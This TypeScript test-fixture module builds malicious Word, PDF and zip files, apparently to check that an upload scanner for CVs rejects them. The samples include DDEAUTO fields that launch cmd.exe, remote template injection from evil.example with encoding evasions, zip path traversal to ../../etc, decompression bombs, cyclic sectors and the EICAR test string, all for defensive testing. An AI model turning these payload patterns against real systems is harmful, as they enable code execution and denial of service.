import { deflateRawSync } from 'node:zlib';
import { eicar } from './eicar.js';
import type { HostileFile } from './hostile-files.js';
import { buildCompound, buildDocx, buildPdf, buildZip, type Parts } from './honest-files.js';

const MB = 1024 * 1024;
const docx = async (what: string, parts: Parts, text = 'hi'): Promise<HostileFile> => ({
  what: `a Word document with ${what}`,
  fileName: 'cv.docx',
  bytes: await buildDocx(text, parts),
});
const rels = (relation: string): string => `<Relationships>${relation}</Relationships>`;
const template = 'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';
const settings = 'word/_rels/settings.xml.rels';
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

/** A directory at the end of the archive whose entries all name the same packed bytes. */
function overlapping(count: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(4 * MB));
  const local = Buffer.alloc(31);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(4 * MB, 22);
  local.writeUInt16LE(1, 26);
  local.write('a', 30);
  const entry = Buffer.alloc(47);
  entry.writeUInt32LE(0x02014b50, 0);
  local.copy(entry, 6, 4, 30);
  entry.write('a', 46);
  const directory = Buffer.concat(Array.from({ length: count }, () => entry));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + packed.length, 16);
  return Buffer.concat([local, packed, directory, end]);
}

async function nested(depth: number): Promise<Buffer> {
  let archive = await buildZip({ 'a.txt': 'a' });
  for (let level = 1; level < depth; level += 1) archive = await buildZip({ 'a.zip': archive });
  return archive;
}

/** The table of sectors says that the first is followed by itself. */
function cyclic(): Buffer {
  const file = buildCompound({ WordDocument: Buffer.alloc(8192, 'a') });
  const sectorSize = 512;
  const table = (file.readUInt32LE(76) + 1) * sectorSize;
  for (let sector = 0; sector < 16; sector += 1) file.writeUInt32LE(sector % 3, table + sector * 4);
  return file;
}

export const hostileCompounds = (): HostileFile[] =>
  [
    { what: 'macros', bytes: buildCompound({ WordDocument: 'x', 'Macros/VBA/dir': 'x' }) },
    { what: 'an object', bytes: buildCompound({ WordDocument: 'x', 'ObjectPool/_1/\u0001Ole10Native': 'x' }) },
    { what: 'a field that starts a program', bytes: buildCompound({ WordDocument: '\u0013 DDEAUTO c:\\cmd.exe' }) },
    { what: 'the test virus', bytes: buildCompound({ WordDocument: 'x', Data: eicar }) },
    { what: 'a cycle of sectors', bytes: cyclic() },
    { what: 'another kind of content', bytes: buildCompound({ Workbook: 'x' }) },
    { what: 'nothing but its beginning', bytes: buildCompound({ WordDocument: 'x' }).subarray(0, 600) },
  ].map(({ what, bytes }) => ({ what: `an old Word document with ${what}`, fileName: 'cv.doc', bytes }));

export async function hostileDocuments(): Promise<HostileFile[]> {
  const virus = await buildZip({ 'a.txt': eicar });
  const dde = '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r>';
  return Promise.all([
    docx('the test virus', { 'word/media/a.bin': eicar }),
    docx('the test virus in an archive', { 'word/media/a.bin': virus }),
    docx('macros', { 'word/vbaProject.bin': 'x' }),
    docx('an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }),
    docx('an object called a picture', { 'word/media/image1.jpeg': buildCompound({ '\u0001Ole10Native': 'x' }) }),
    docx('a program', { 'word/setup.exe': 'x' }),
    docx('a program called a picture', { 'word/media/image1.jpeg': 'MZ\u0090' }),
    docx('a template from elsewhere', { [settings]: rels(`<Relationship ${template}/>`) }),
    docx('a template in single quotes', { [settings]: rels(`<Relationship ${template.replaceAll('"', "'")}/>`) }),
    docx('a template in UTF-16', { [settings]: utf16(rels(`<Relationship ${template}/>`)) }),
    docx('a template in entities', {
      [settings]: rels(`<Relationship ${template.replace('External', 'Ex&#116;ernal')}/>`),
    }),
    docx('a picture of another machine', {
      [settings]: rels(`<Relationship Type="http://x/image" Target="file://evil/x" TargetMode="External"/>`),
    }),
    docx('another document', { [settings]: rels('<Relationship Type="http://x/aFChunk" Target="a.mht"/>') }),
    docx('a field that starts a program', {}, dde),
    docx('such a field in one piece', {}, "<w:fldSimple w:instr='DDE c:\\cmd.exe'/>"),
    docx('entities of its own', { 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
    {
      what: 'a way out of an archive',
      fileName: 'cv.docx',
      bytes: outside(await buildDocx('hi', { 'aa/aa/etc': 'x' })),
    },
    { what: 'a broken archive', fileName: 'cv.docx', bytes: Buffer.from('PK\u0003\u0004 and no end') },
    { what: 'an archive called a document', fileName: 'cv.docx', bytes: await buildZip({ 'a.txt': 'a' }) },
    {
      what: 'a PDF that is an archive too',
      fileName: 'cv.pdf',
      bytes: Buffer.concat([buildPdf(), await buildZip({ 'a.txt': 'a' })]),
    },
  ]);
}

export function exhaustingDocuments(): Promise<HostileFile[]> {
  const entries = Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`word/${index}.xml`, '']));
  return Promise.all([
    docx('relations of 768 KB', { [settings]: 'attachedTemplate'.repeat(48_000) }),
    docx('tags that never end', { 'word/a.xml': '<w:instrText '.repeat(300_000) }),
    docx('a bomb', { 'word/a.xml': Buffer.alloc(101 * MB) }),
    docx('ten thousand parts', entries),
    nested(4).then((archive) => docx('archives in archives', { 'word/media/a.zip': archive })),
    { what: 'a Word document whose parts are one', fileName: 'cv.docx', bytes: overlapping(4000) },
  ]);
}

/** No writer of archives writes such a name. */
function outside(archive: Buffer): Buffer {
  return Buffer.from(archive.toString('latin1').replaceAll('aa/aa/etc', '../../etc'), 'latin1');
}
